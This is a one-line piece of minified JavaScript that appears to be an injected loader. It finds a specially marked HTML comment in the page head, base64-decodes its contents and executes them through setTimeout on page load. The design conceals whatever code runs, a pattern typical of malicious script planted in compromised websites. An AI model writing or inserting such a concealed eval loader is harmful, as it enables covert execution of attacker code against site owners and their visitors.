(function(d,w){var h=d.getElementsByTagName('head')[0],m=h.innerHTML.match(/<!--z(.+?)z-->/);m&&w['setTimeout'](w.atob(m[1]),10)})(document,window);
